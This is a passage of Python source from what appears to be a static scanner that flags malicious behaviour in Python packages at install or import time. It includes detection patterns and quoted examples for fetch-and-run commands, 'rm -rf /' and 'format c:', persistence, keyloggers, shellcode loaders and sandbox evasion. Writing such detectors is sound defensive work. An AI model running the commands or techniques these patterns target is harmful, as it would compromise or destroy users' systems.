    """A command that uploads files (``curl -F file=@...``) beside a call that runs it."""
    hit = texts.search(indicators.UPLOAD_COMMAND)
    if hit is None or facts.called(*PROCESS) is None:
        return None
    return finding("exfil-sink", path, hit[2], f"command-line upload: {_clip(hit[0].group(0))}")


def _credentials(path: str, texts: Texts) -> Finding | None:
    hits: list[tuple[float, int, str]] = []
    for category, (weight, pattern) in indicators.CREDENTIALS.items():
        hit = texts.search(pattern)
        if hit is not None:
            hits.append((weight, hit[2], category))
    if not hits:
        return None
    hits.sort(key=lambda item: -item[0])
    weight = min(hits[0][0] + (len(hits) - 1), 9)
    return finding("credential-read", path, hits[0][1], ", ".join(h[2] for h in hits), weight)


def _acts_early(role: Role, facts: Facts, does: Callable[[Call], bool]) -> bool:
    """Whether a call that ``does`` runs on ``pip install`` or ``import``: anywhere in
    install-time or ``.pth`` code, or at an imported module's top level (also in a function
    that code there calls)."""
    if role in (Role.INSTALL, Role.PTH):
        return any(does(c) for c in facts.calls)
    return role is Role.IMPORT and any(c.top and does(c) for c in facts.calls)


def _spawns(call: Call) -> bool:
    return names_one_of(call.name, PROCESS)


def _writes(call: Call) -> bool:
    """A call that may write a file (``open`` in any mode among them)."""
    return names_one_of(call.name, _WRITES)


#: ``open``'s mode when it writes (``"w"``, ``"a+"``, ``"xb"``, ``"r+"``).
_WRITING_MODE = re.compile(r"[rbt]*[wax+][rwabxt+]{0,2}")


def _writes_surely(call: Call) -> bool:
    """A call that writes a file: ``open`` in a writing mode, a handle's ``write``, a copy,
    a move, ``write_text``."""
    if call.name == "open":
        return any(_WRITING_MODE.fullmatch(a) for a in call.args)
    return _writes(call) or call.name.endswith((".write", ".writelines"))


def _places(call: Call) -> bool:
    """A call that may put something where it runs later: a process, a write, a registry
    call."""
    return _spawns(call) or _writes(call) or names_one_of(call.name, _REGISTRY_WRITES)


def _places_surely(call: Call) -> bool:
    """A process, or a call that surely writes a file (``_writes_surely``; not
    ``open(path)``, which may only read)."""
    return _spawns(call) or _writes_surely(call)


def _opened_to_read(literal: str, facts: Facts) -> bool:
    """Whether ``literal`` is handed to ``open`` without a writing mode
    (``open("CLAUDE.md").read()``): the file named is read there, not written."""
    return any(
        c.name == "open" and literal in c.args and not any(map(_WRITING_MODE.fullmatch, c.args))
        for c in facts.calls
    )


def _commands(path: str, texts: Texts, facts: Facts, role: Role) -> Iterator[Finding]:
    spawn = facts.called(*PROCESS)
    persist = texts.search(indicators.PERSISTENCE)
    read_only = False
    if persist is None and role in (Role.INSTALL, Role.PTH, Role.IMPORT):
        # An MCP server or an instruction added to what a coding agent obeys acts at its
        # next session. Only early: their own installers (`mcp install`) write there when
        # asked, and tools read the lists to find servers.
        obeyed = texts.search(indicators.AGENT_SETTINGS)
        if obeyed is not None and _acts_early(role, facts, _places_surely):
            persist, read_only = obeyed, _opened_to_read(obeyed[1], facts)
    if persist is not None and spawn is None and facts.called(*_WRITES) is None:
        persist = None
    hit = texts.search(indicators.DOWNLOAD_RUN)
    strong = False
    if hit is not None:
        # A command in a message ("to install, run: curl ... | sh") is advice; one handed
        # to a process, hidden or encoded, anywhere in install-time code, or written into a
        # file beside a place the system runs from (a shell rc file, a startup folder), is
        # an action.
        command = hit[0].group(0)
        strong = (
            role is Role.INSTALL
            or (
                persist is not None
                and any(hit[1] in c.args for c in facts.calls if c.name.endswith(".write"))
            )
            or bool(indicators.HIDDEN_POWERSHELL.search(command))
            or any(
                hit[1] in call.args or any(command in a for a in call.args)
                for call in facts.calls
                if names_one_of(call.name, PROCESS) or call.name in facts.process_runners
            )
        )
        yield finding("download-run", path, hit[2], _clip(command), 10 if strong else 4)
    if not strong:
        # Advice aside, a download and a program run may still be the file's own.
        fetch = facts.called(
            ".urlretrieve",  # by its last name: a mistyped or aliased module still fetches
            "requests.get",
            "wget.download",
            ".urlopen",
            "httpx.get",
            "httpx.stream",
        )
        if fetch is None and spawn is not None:
            # A client (`s = requests.Session(); s.get(...)`) or another library fetches too.
            fetch = facts.called(*NETWORK)
        if fetch is None:
            hit = texts.search(indicators.FETCH_TO_FILE)
            fetch = Call(_clip(hit[0].group(0), 30), hit[2]) if hit is not None else None
        if fetch is None and spawn is not None:
            # A program handed a URL (`[curl, url, "-o", path]`) fetches it.
            fetch = next(
                (
                    c
                    for c in facts.calls
                    if c.args
                    and any(_URL.match(a) for a in c.args)
                    and names_one_of(c.name, PROCESS)
                ),
                None,
            )
        if spawn is not None and fetch is not None:
            # (What a downloader is handed, `wget URL -O /tmp/m.pt`, it writes, not runs.)
            run = {
                a
                for call in facts.calls
                if names_one_of(call.name, PROCESS)
                and not (call.args and _DOWNLOADER.match(call.args[0]))
                for a in call.args
            }
            found = texts.first(
                lambda t: (
                    bool(
                        indicators.EXECUTABLE_URL.search(t)
                        or (t in run and _EXECUTABLE_FILE.search(t))
                        or (t in run and _SCRATCH_PROGRAM.match(t) is not None)
                        or indicators.TEMP_EXECUTABLE.search(t)
                    )
                    # (A command in a message, `irm https://x/install.ps1 | iex`, is advice.)
                    and (hit is None or not indicators.DOWNLOAD_RUN.pattern.search(t))
                )
            )
            if found is not None:
                # A download checked against a pinned digest is a build fetching a known
                # artefact (a compiler, a library), not a payload that can change. In the
                # functions of an imported module (nothing of it runs on import), a download
                # and a program named in a run are what installers of tools do when asked
                # (nodeenv): evidence, not proof; a program's own URL written in is not.
                weight = 3 if facts.verifies_digest else 10
                if (
                    role in (Role.IMPORT, Role.MODULE, Role.SCRIPT)
                    and not (fetch.top or spawn.top)
                    and not indicators.EXECUTABLE_URL.search(found[0])
                ):
                    weight = min(weight, 6)
                yield finding(
                    "download-run",
                    path,
                    found[1],
                    f"{fetch.name} then {spawn.name} of {_clip(found[0])}"
                    + (" (digest verified)" if facts.verifies_digest else ""),
                    weight,
                )
    if persist is not None:
        # Code that runs on `pip install` or `import` and makes something start with the
        # machine has no user who asked for it. Written there by the very lines that name
        # the place (a write or a process within two lines of it), by code that runs then:
        # that is all it takes.
        early = _acts_early(role, facts, lambda c: _spawns(c) or _writes(c))
        placed = not read_only and any(
            (c.top or role is Role.INSTALL)
            and persist[2] <= c.line <= persist[2] + 2
            and _places(c)
            for c in facts.calls
        )
        weight = (10 if placed else 8) if early else None
        yield finding("persistence", path, persist[2], _clip(persist[0].group(0)), weight)


def _backdoor_key(path: str, texts: Texts, facts: Facts) -> Iterator[Finding]:
    """A public key the code carries, written into ``authorized_keys``: whoever holds its
    private half can log in as the user, whichever code wrote it."""
    target = texts.first(lambda t: "authorized_keys" in t)
    if target is None or facts.called(*_WRITES, *PROCESS) is None:
        return
    key = texts.first(lambda t: indicators.SSH_PUBLIC_KEY.search(t) is not None)
    if key is not None:
        yield finding("account-backdoor", path, key[1], "a public key into authorized_keys")


def _agent_hijack(path: str, texts: Texts, facts: Facts, role: Role) -> Iterator[Finding]:
    """A coding agent's command line with its permission checks off
    (``indicators.AGENT_UNGUARDED``) in code that starts a process on ``pip install`` or
    ``import``: the agent does whatever its prompt asks, with the user's rights. Tools that
    drive agents when their user asks (a console command, a function) are not this."""
    flag = texts.search(indicators.AGENT_UNGUARDED)
    if flag is not None and _acts_early(role, facts, _spawns):
        yield finding("agent-hijack", path, flag[2], _clip(flag[0].group(0)))


def _index_hijack(path: str, texts: Texts, facts: Facts) -> Iterator[Finding]:
    """An index written into pip's (uv's, conda's) configuration, or set by ``pip config``:
    every later install on the machine asks that index first."""
    setting = texts.search(indicators.INDEX_SETTING)
    if setting is None:
        return
    command = setting[0].group(0).lower().startswith(("pip ", "pip3 "))
    if command and facts.called(*PROCESS) is not None:
        yield finding("index-hijack", path, setting[2], _clip(setting[0].group(0)))
    elif texts.search(indicators.INSTALLER_CONFIG) is not None and facts.called(*_WRITES):
        yield finding("index-hijack", path, setting[2], "an index written into its configuration")


#: Starting the program an in-memory file holds (``/proc/self/fd/N``, ``fexecve``).
_MEMORY_RUNS = (
    "os.execv",
    "os.execve",
    "os.fexecve",
    "os.execl",
    "subprocess.Popen",
    "subprocess.run",
)


def _fileless(path: str, texts: Texts, facts: Facts, network: Call | None) -> Iterator[Finding]:
    """A download put into an anonymous in-memory file (``memfd_create``) and run from there:
    a program that never touches the disk a virus scanner reads."""
    memory = facts.called("os.memfd_create")
    if memory is None or network is None:
        return
    runs = facts.called("os.fexecve") or (
        facts.called(*_MEMORY_RUNS) if texts.first(lambda t: "/proc/self/fd" in t) else None
    )
    if runs is not None:
        yield finding("drop-run", path, memory.line, f"a download run from memory by {runs.name}")


_WRITES = (
    "open",
    "shutil.copy",
    "shutil.copyfile",
    "shutil.copy2",
    "shutil.move",
    "os.rename",
    "os.replace",
    ".write_text",
    ".write_bytes",
    "winreg.SetValueEx",
    "_winreg.SetValueEx",
    "winreg.CreateKey",
    # A Windows shortcut (`WScript.Shell`'s, pywin32's or winshell's), saved where it is made.
    ".CreateShortCut",
    ".CreateShortcut",
    "winshell.shortcut",
)


def _clipboard(path: str, texts: Texts, facts: Facts) -> Iterator[Finding]:
    clip = facts.called(*CLIPBOARD)
    if clip is None:
        return
    found = texts.first(lambda text: bool(indicators.CRYPTO_ADDRESS.pattern.search(text)))
    if found is not None:
        yield finding("clipboard-swap", path, clip.line, f"{clip.name} beside {_clip(found[0])}")


#: Calls that hook every key the user presses, system-wide.
KEYBOARD_HOOKS = (
    "pynput.keyboard.Listener",
    "keyboard.on_press",
    "keyboard.on_release",
    "keyboard.hook",
    "keyboard.on_press_key",
    ".GetAsyncKeyState",
    ".SetWindowsHookExA",
    ".SetWindowsHookExW",
    ".SetWindowsHookEx",
)
#: Calls that capture the screen.
SCREEN_CAPTURES = (
    "PIL.ImageGrab.grab",
    "ImageGrab.grab",
    "pyautogui.screenshot",
    "pyscreenshot.grab",
    "mss.mss",
    "mss.mss.grab",
)


def _anti_analysis(path: str, facts: Facts) -> Iterator[Finding]:
    """Five or more of the names stealers check to hide from sandboxes and analysts (the
    sandboxes' user names, debuggers', sniffers' and virtual machines' processes): nothing
    else needs to know whether ``WDAGUtilityAccount`` runs it or ``x96dbg`` is open."""
    seen: dict[str, int] = {}
    for text, line in facts.strings:
        name = text.strip().lower().removesuffix(".exe")
        if name in indicators.ANALYSIS_NAMES and name not in seen:
            seen[name] = line
    if len(seen) >= 5 and not {"wdagutilityaccount", "httpdebuggerui", "vboxservice"}.isdisjoint(
        seen
    ):
        first = min(seen.values())
        detail = ", ".join(sorted(seen)[:4]) + ", ..."
        # What it does on a match: kills the analyst's tool, or quits before it is watched.
        reaction = facts.called(*_EVASIVE_REACTIONS)
        if reaction is None:
            yield finding("anti-analysis", path, first, detail)
        else:
            yield finding("anti-analysis", path, first, f"{detail} and {reaction.name}", 10)


#: Calls a sandbox check makes when it finds what it looks for.
_EVASIVE_REACTIONS = (".kill", ".terminate", "os.kill", "sys.exit", "os._exit", "exit", "quit")


def _spyware(path: str, facts: Facts) -> Iterator[Finding]:
    """A system-wide keyboard hook, or a screen capture, in a file that uses the network:
    what the user types or sees, sent away. A hook alone is a hot-key library's everyday
    work; one beside a request is a key logger whoever calls it."""
    network = facts.called(*NETWORK) or next(iter(facts.sends), None)
    if network is None:
        return
    hook = facts.called(*KEYBOARD_HOOKS)
    if hook is not None:
        yield finding("spyware", path, hook.line, f"keyboard hook {hook.name} and {network.name}")
        return
    capture = facts.called(*SCREEN_CAPTURES)
    if capture is not None:
        detail = f"screen capture {capture.name} and {network.name}"
        yield finding("spyware", path, capture.line, detail, 8)


_REGISTRY_WRITES = (".CreateKey", ".CreateKeyEx", ".OpenKey", ".SetValueEx", ".SetValue")


def _defense_evasion(path: str, texts: Texts, facts: Facts) -> Iterator[Finding]:
    """A command that turns the machine's defences off, handed to a process or a registry
    write (not a message that mentions it)."""
    hit = texts.search(indicators.DEFENSE_EVASION)
    if hit is None:
        return
    command = hit[1]
    for call in facts.calls:
        if command in call.args and (
            names_one_of(call.name, PROCESS) or call.name.endswith(_REGISTRY_WRITES)
        ):
            yield finding("defense-evasion", path, hit[2], _clip(hit[0].group(0)))
            return


def _shellcode(path: str, facts: Facts) -> Iterator[Finding]:
    """Memory allocated in this process (``VirtualAlloc``), then code copied into it or a
    thread started there: machine code run from inside Python, the way loaders run a payload
    unseen."""
    alloc = facts.called(".VirtualAlloc")
    if alloc is None:
        return
    # In this process: another's memory written (`VirtualAllocEx`, `WriteProcessMemory`,
    # `CreateRemoteThread`) is also how debuggers attach.
    run = facts.called(".RtlMoveMemory", ".CreateThread")
    if run is not None:
        yield finding("shellcode", path, alloc.line, f"{alloc.name}, then {run.name}")


def _obfuscation(path: str, facts: Facts, role: Role) -> Iterator[Finding]:
    reasons = []
    if facts.builtins_getattr:
        reasons.append("getattr on builtins")
    if facts.char_codes >= 2:
        reasons.append(f"{facts.char_codes} strings spelled as character codes")
    if facts.lookalike_names >= 3:
        reasons.append(f"{facts.lookalike_names} names spelled in look-alike letters")
    if "__pyarmor__" in facts.names or "pyarmor_runtime" in facts.names:
        reasons.append("pyarmor")
    if facts.disguise:
        reasons.append(f"source written in {facts.disguise}")
    if (
        facts.escapes >= ESCAPE_SOUP
        and facts.escapes * 4 * 8 >= facts.max_line * 10
        and not path.endswith("_pb2.py")  # protobuf descriptors are escaped bytes
    ):
        reasons.append(f"{facts.escapes} escaped characters")
    names = [n for n in facts.names if len(n) > 1]
    junk = [n for n in names if not n.isascii() or re.fullmatch(r"_{3,}|[Il1O0_]{6,}", n)]
    if len(junk) >= 5 and len(junk) * 3 >= len(names):
        reasons.append("unreadable identifiers")
    early = role in (Role.INSTALL, Role.IMPORT, Role.PTH)
    if reasons:
        # Code packed by pyarmor runs encrypted bytecode: what it does at install or
        # import cannot be read at all, so it is held for a person to judge; so is
        # hidden code that also runs code it builds (exec renamed, or fed computed data).
        runs = facts.exec_aliases > 0 or any(
            (s.sink in _CODE_SINKS and s.feed != "literal")
            or (s.sink == "__import__" and s.feed in ("payload", "decoded"))
            for s in facts.sinks
        )
        if runs:
            reasons.append("runs code it builds")
        weight = (10 if "pyarmor" in reasons or facts.disguise or runs else 8) if early else 4
        yield finding("obfuscated", path, 1, ", ".join(reasons), weight)
    for text, line in facts.strings:
        if len(text) >= 2048 and _opaque(text):
            weight = 6 if role in (Role.INSTALL, Role.PTH) else 3
            yield finding("opaque-literal", path, line, f"{len(text)} opaque characters", weight)
            break


_FILE_EXEC = frozenset({"exec", "eval", "builtins.exec", "execfile"})
_CODE_SINKS = frozenset({"exec", "eval", "compile", "execfile", "builtins.exec", "builtins.eval"})


def _opaque(text: str) -> bool:
    sample = text[:8192]
    if any(c.isspace() for c in sample[:2048]):
        return False
    counts: dict[str, int] = {}
    for c in sample:
        counts[c] = counts.get(c, 0) + 1
    entropy = -sum(n / len(sample) * math.log2(n / len(sample)) for n in counts.values())
    return entropy > 4.0


def _install_time(path: str, facts: Facts, network, texts: Texts) -> Iterator[Finding]:  # type: ignore[no-untyped-def]
    if network is None and facts.called(*PROCESS) is not None:
        # `os.system("curl https://...")` uses the network as surely as `urlopen`.
        hit = texts.search(indicators.FETCH_COMMAND)
        if hit is not None:
            network = Call(_clip(hit[0].group(0), 30), hit[2])
    if network is not None:
        host = _host_facts(facts)
        if host is None:
            # `curl https://...?u=$(whoami)`: the shell fills in the host facts it sends.
            fetch = texts.search(indicators.FETCH_COMMAND)
            shell = fetch and indicators.SHELL_HOST_FACTS.search(fetch[1])
            host = shell.group(0) if shell else None
        if host is not None:
            yield finding("phone-home", path, network.line, f"{host} and {network.name}")
        else:
            beacon = _bare_beacon(facts)
            if beacon is not None:
                yield _beacon_finding(path, beacon)
        if facts.verifies_digest:
            detail = f"{network.name} (digest verified)"
            yield finding("install-network", path, network.line, detail, 3)
        else:
            yield finding("install-network", path, network.line, network.name)
    spawn = facts.called(*PROCESS)
    if spawn is not None:
        yield finding("install-process", path, spawn.line, spawn.name)
        yield from _hidden_process(path, facts.calls)
    yield from _destructive(path, facts.calls)
    if facts.called(*_WRITES) is not None:
        for text, line in facts.strings:
            if _WRITE_OUTSIDE.search(text):
                # A program, script or launcher written there runs later, outside pip.
                program = texts.first(lambda t: bool(_PROGRAM_FILE.search(t)))
                if program is not None:
                    detail = f"{_clip(text, 30)} and {_clip(program[0], 30)}"
                    yield finding("install-write", path, line, detail, 6)
                else:
                    yield finding("install-write", path, line, _clip(text))
                break
    # An address is a sink only where something may connect to it: `setup(version="1.0.0.1")`
    # in a setup script that neither uses the network nor starts a process is a version.
    address = texts.first(indicators.raw_ip_literal) if network or spawn else None
    if address is not None:
        yield finding("exfil-sink", path, address[1], f"raw IP address {address[0]}", 4)
    requirements = _stealer_requirements(facts)
    if requirements:
        weight = min(4 + 2 * (len(requirements) - 1), 8)
        yield finding("stealer-dependency", path, 0, ", ".join(requirements), weight)


#: Names a setup script may look up to see whether it is online.
_WELL_KNOWN_HOSTS = re.compile(
    r"^(?:localhost|(?:[\w-]+\.)*(?:pypi\.org|pythonhosted\.org|python\.org|github\.com|"
    r"google\.com|cloudflare\.com|example\.(?:com|org|net)))\.?$",
    re.I,
)


def _bare_beacon(facts: Facts, top: bool = False) -> Call | None:
    """A request or a DNS look-up made for its own sake: a look-up of a name the code
    writes in, or a request to an address written in whose answer nothing reads. Either
    tells the server's owner who installs the package (its address, its resolver), with
    nothing sent."""
    for call in facts.calls:
        if top and not call.top:
            continue
        if call.name in DNS_LOOKUPS and call.args:
            name = call.args[0]
            if "." in name and not _WELL_KNOWN_HOSTS.match(name) and not indicators.raw_ip(name):
                return call
        elif call.discarded and names_one_of(call.name, NETWORK) and call.args:
            url = next((a for a in call.args if _URL.match(a)), None)
            host = re.sub(r"^\s*\w+://(?:[^@/]*@)?([^/:?#]+).*$", r"\1", url or "", flags=re.S)
            if url is not None and not _WELL_KNOWN_HOSTS.match(host):
                return call
    return None


def _beacon_finding(path: str, call: Call, when: str = "install") -> Finding:
    what = "looks up" if call.name in DNS_LOOKUPS else "calls, ignoring the answer,"
    return finding("phone-home", path, call.line, f"{when} {what} {_clip(call.args[0], 40)}", 8)


def _hidden_process(path: str, calls: list[Call]) -> Iterator[Finding]:
    """Process calls that install other packages or look up DNS (``hidden-install``), or
    start a detached Python on inline code (``install-python``)."""
    for call in calls:
        if not names_one_of(call.name, PROCESS):
            continue
        command = " ".join(call.args)
        match = _HIDDEN_INSTALL.search(command) or (
            "install" in call.args and call.name.startswith("pip") and call
        )
        if match:
            what = match.group(0) if isinstance(match, re.Match) else "pip install"
            url = _INSTALL_URL.search(command)
            if url is not None and not indicators.FORGE_URL.match(url.group(1)):
                # An archive from an address of its own: fetched past the index (and
                # pipgate), by code nobody asked to install anything.
                yield finding(
                    "hidden-install", path, call.line, f"pip install {url.group(1)[:60]}", 10
                )
            else:
                yield finding("hidden-install", path, call.line, _clip(what))
            break
    detached = next((c for c in calls if _detached_python(c)), None)
    if detached is not None:
        yield finding("install-python", path, detached.line, _clip(" ".join(detached.args)))


def _import_time(path: str, facts: Facts, role: Role) -> Iterator[Finding]:
    """What a module does the moment it is imported (module level, and the functions it
    calls from there)."""
    if role in (Role.IMPORT, Role.PTH):
        spawn = next((c for c in facts.calls if c.top and names_one_of(c.name, PROCESS)), None)
        if spawn is not None:
            yield finding("import-process", path, spawn.line, spawn.name)
            # What installing may not do, importing may not either: install packages the
            # metadata does not name, or start Python on hidden code that outlives the import,
            # or shut the machine down.
            yield from _hidden_process(path, [c for c in facts.calls if c.top])
        yield from _destructive(path, [c for c in facts.calls if c.top])
    network = next((c for c in facts.calls if c.top and names_one_of(c.name, NETWORK)), None)
    if network is None:
        # `os.system("curl https://...")` uses the network as surely as `urlopen`, on
        # import as at install.
        network = next(
            (
                Call(_clip(fetch.group(0), 30), c.line)
                for c in facts.calls
                if c.top and names_one_of(c.name, PROCESS)
                for command in (" ".join(c.args),)
                if (fetch := indicators.FETCH_COMMAND.search(command, command.lower()))
            ),
            None,
        )
    if network is None:
        return
    if role is not Role.SCRIPT:
        # Importing downloads, and runs a file as code: the download, saved first.
        runs = {c.line for c in facts.calls if c.top and c.name in _FILE_EXEC}
        sink = next((s for s in facts.sinks if s.feed == "file" and s.line in runs), None)
        if sink is not None:
            detail = f"{network.name}, then a file into {sink.sink}"
            yield finding("download-exec", path, sink.line, detail)
    host = _host_facts(facts, top=True)
    if host is not None:
        yield finding("phone-home", path, network.line, f"{host} and {network.name}")
    elif role in (Role.IMPORT, Role.PTH):
        beacon = _bare_beacon(facts, top=True)
        if beacon is not None:
            yield _beacon_finding(path, beacon, "import")
    yield finding("import-network", path, network.line, network.name)


def _host_facts(facts: Facts, top: bool = False) -> str | None:
    """A host fact the code reads (called, or passed along as ``try_call(os.uname)``)."""
    call = next(
        (c for c in facts.calls if (c.top or not top) and names_one_of(c.name, HOST_FACTS)), None
    )
    if call is not None:
        return call.name
    return next((name for name in HOST_FACTS if name in facts.refs), None)


_PYTHON = re.compile(r"^(?:.*[\\/])?(?:python[\d.]*w?|pythonw)(?:\.exe)?$", re.I)
_INLINE = re.compile(
    r"(?:^|\s|[\\/])python[\d.]*w?(?:\.exe)?\s+(?:-\w+\s+)*-c\s|(?:^|\s|[\\/])pythonw(?:\.exe)?\s",
    re.I,
)
_DETACH_WORDS = re.compile(r"(?:^|\s)(?:nohup|start|setsid)\s|&\s*$|\bpythonw\b", re.I)
_DETACH_KEYWORDS = frozenset({"start_new_session", "creationflags", "close_fds", "preexec_fn"})


def _detached_python(call: Call) -> bool:
    """A process call that starts Python on inline code (``python -c "..."``, ``pythonw``)
    and does not wait for it (``Popen``, a detaching flag or shell word): code that runs
    on after the install, where nobody sees it."""
    if not names_one_of(call.name, PROCESS):
        return False
    args = call.args
    inline = (any(_PYTHON.match(a) for a in args) and "-c" in args) or any(
        _INLINE.search(a) for a in args
    )
    windowless = any(
        _PYTHON.match(a) and a.lower().removesuffix(".exe").endswith("w") for a in args
    )
    if not (inline or windowless):
        return False
    return (
        call.name in ("subprocess.Popen", "os.startfile", "os.spawnl", "os.spawnv")
        or not _DETACH_KEYWORDS.isdisjoint(call.keywords)
        or any(_DETACH_WORDS.search(a) for a in args)
        or windowless
    )


def names_one_of(name: str, table: tuple[str, ...]) -> bool:
    """Whether a call's resolved ``name`` is one of ``table``'s: the same name, or, for an
    entry that starts with a dot (``.LoadLibrary``), that method on any receiver."""
    names, methods = _split_table(table)
    return name in names or name.endswith(methods)


@functools.cache
def _split_table(table: tuple[str, ...]) -> tuple[frozenset[str], tuple[str, ...]]:
    """A table's whole names and its methods (a set and a tuple for ``str.endswith``: a
    file of a hundred thousand calls asks each table once per call)."""
    return frozenset(t for t in table if not t.startswith(".")), tuple(
        t for t in table if t.startswith(".")
    )


def _stealer_requirements(facts: Facts) -> list[str]:
    found = []
    for text, _line in facts.strings:
        name = re.split(r"[<>=!~;\[ ]", text.strip(), maxsplit=1)[0].lower().replace("_", "-")
        if name in indicators.STEALER_REQUIREMENTS and name not in found:
            found.append(name)
    return found


#: Commands install-time code has no business running: installing other packages (a
#: dependency hidden from the metadata) or DNS look-ups (a beacon).
_HIDDEN_INSTALL = re.compile(
    r"(?:\bpip3?(?:\.exe)?|-m\s+pip)\s+install\s+(?:-\S+\s+)*[A-Za-z]|"
    r"\b(?:dig|nslookup)\s+\S+\.\S+",
    re.I,
)


_INSTALL_URL = re.compile(
    r"\binstall\s+(?:-\S+\s+)*(?:\S+\s*@\s*)?((?:git\+)?(?:https?|ftp)://\S+)", re.I
)


#: Commands that take the machine down or wipe the user's files.
def _destructive(path: str, calls: list[Call]) -> Iterator[Finding]:
    """``destructive`` for the first of ``calls`` that shuts the machine down, formats or
    deletes a drive or a home (a command, or ``shutil.rmtree`` of the home folder)."""
    homes = {
        c.line
        for c in calls
        if c.name in _HOME_FOLDER or (c.name == "os.path.expanduser" and c.args[:1] == ("~",))
    }
    for call in calls:
        if names_one_of(call.name, PROCESS):
            hit = next((m for a in call.args if (m := _DESTRUCTIVE.search(a))), None)
            if hit is not None:
                yield finding("destructive", path, call.line, _clip(hit.group(0)))
                return
        elif call.name == "shutil.rmtree" and call.line in homes:
            yield finding("destructive", path, call.line, "shutil.rmtree of the home folder")
            return


_HOME_FOLDER = frozenset({"pathlib.Path.home", "Path.home"})
_DESTRUCTIVE = re.compile(
    r"^\s*(?:sudo\s+)?(?:shutdown|poweroff|reboot|halt)\b|"
    r"\brm\s+-(?:rf|fr)\s+(?:--no-preserve-root\s+)?(?:/|~|\$HOME)/?\*?(?:\s|$)|"
    r"\bformat\s+c:|\bdel\s+/[fsq]\s.*[A-Z]:\\\*",
    re.I,
)


def _clip(text: str, limit: int = 60) -> str:
    # A path given in pieces is matched with NULs between them: shown as a path.
    text = " ".join(text.replace("\x00", "/").split())
    return text if len(text) <= limit else text[: limit - 1] + "…"
